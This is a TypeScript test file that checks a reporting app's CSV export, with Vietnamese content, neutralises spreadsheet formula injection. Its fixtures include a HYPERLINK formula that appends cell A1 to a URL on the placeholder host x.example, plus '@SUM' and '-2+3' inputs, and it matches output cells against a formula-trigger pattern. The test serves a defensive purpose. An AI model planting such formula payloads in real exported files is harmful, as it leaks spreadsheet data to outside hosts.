import { readFileSync } from 'node:fs';
import { parse as parseCsv } from 'csv-parse/sync';
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import { Translator } from '../../src/i18n/translator.ts';
import { parseFormSpec } from '../../src/flow/form-spec.ts';
import { exportCsv } from '../../src/core/report/export-csv.ts';
import type { PeriodStatus, UnitStatus } from '../../src/core/report/period-status.ts';
import type { Period } from '../../src/core/domain/types.ts';

const translator = Translator.fromDirectory('locales');
const vi = (key: string, params?: Record<string, string | number>) => translator.t('vi', key, params);
const form = parseFormSpec(parse(readFileSync('flows/_forms/qttn-report.yaml', 'utf8')), 'qttn-report.yaml', (k) => translator.has(k));

const period: Period = {
  id: 'p',
  title: { vi: 'Kỳ', en: 'Period' },
  unitDeadline: '2027-06-10T23:59:59+07:00',
  deadlineIsDateOnly: true,
  closes: '2027-07-10T23:59:59+07:00',
  reminders: [],
  summaries: [],
  version: 1,
  planId: 'test-plan',
};

describe('CSV export of what people typed', () => {
  it('never writes a cell a spreadsheet would run as a formula, and keeps the text readable', () => {
    const unit: UnitStatus = {
      unit: { code: 'HD01', name: '+Huyện Đoàn', parentCode: 'TINH', createdAt: '' },
      officers: [],
      latest: {
        periodId: 'p',
        unitCode: 'HD01',
        revision: 1,
        answers: { highlights: '=HYPERLINK("http://x.example/?"&A1,"bấm")', difficulties: '-2+3', proposals: 'Tăng kinh phí' },
        submittedBy: { personId: 'p1', name: '@SUM(A1:A9)', channel: 'telegram' },
        submittedAt: '2027-06-01T08:00:00Z',
        late: false,
      },
    };
    const status: PeriodStatus = { period, plan: null, units: [unit], reported: [unit], missing: [], onTime: 1, late: 0 };
    const rows = parseCsv(exportCsv(status, form, vi, 'Asia/Ho_Chi_Minh'), { bom: true }) as string[][];
    const cells = rows.flat();
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain('Tăng kinh phí');
    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
  });
});
